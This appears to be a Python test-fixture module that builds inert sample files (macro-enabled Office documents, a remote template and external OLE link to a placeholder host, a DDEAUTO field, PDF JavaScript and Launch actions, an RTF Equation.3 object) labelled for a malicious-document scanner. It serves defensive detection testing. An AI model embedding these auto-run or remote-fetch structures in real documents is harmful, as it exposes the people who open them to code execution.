"""Documents with dangers that only a reader of the format sees: name, content, labels. Structure only, no code."""

from tests.zoo import makers as make

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
_MACRO_EXCEL = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_MACRO_SLIDES = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
_PROJECT = make.ole({"PROJECT": b'ID="{0}"\r\nModule=M\r\n', "dir": b"x"})


def _relations(kind: str, target: str) -> bytes:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def _with_field(field: str) -> bytes:
    header = (
        '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:instrText>'
        f"{field}</w:instrText></w:r></w:p></w:hdr>"
    )
    return make.ooxml("word/document.xml", _WORD_MAIN, {"word/header1.xml": header.encode()})


ROWS = (
    ("mau-bieu.docm", make.ooxml("word/document.xml", _MACRO_WORD, {"word/vbaProject.bin": _PROJECT}), "macro?"),
    ("bang-tinh.xlsm", make.ooxml("xl/workbook.xml", _MACRO_EXCEL, {"xl/vbaProject.bin": _PROJECT}), "macro?"),
    ("trinh-chieu.pptm", make.ooxml("ppt/presentation.xml", _MACRO_SLIDES, {"ppt/vbaProject.bin": _PROJECT}), "macro?"),
    (
        "giay-moi.docx",
        make.ooxml(
            "word/document.xml",
            _WORD_MAIN,
            {"word/_rels/settings.xml.rels": _relations("attachedTemplate", "http://mau.example/a.dotm")},
        ),
        "remote_template",
    ),
    (
        "cong-van-lien-ket.docx",
        make.ooxml(
            "word/document.xml",
            _WORD_MAIN,
            {"word/_rels/document.xml.rels": _relations("oleObject", "http://mau.example/a.html!")},
        ),
        "external_object",
    ),
    ("truong-dde.docx", _with_field("DDEAUTO c:\\\\mau\\\\a.exe x"), "dde"),
    ("kich-ban.pdf", make.pdf("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "pdf_javascript?"),
    ("mo-tep.pdf", make.pdf("/OpenAction<</S/Launch/F(a.exe)>>"), "pdf_launch"),
    (
        "doi-tuong.rtf",
        make.rtf("{\\object\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 01050000}}"),
        "exploit_object?",
    ),
)
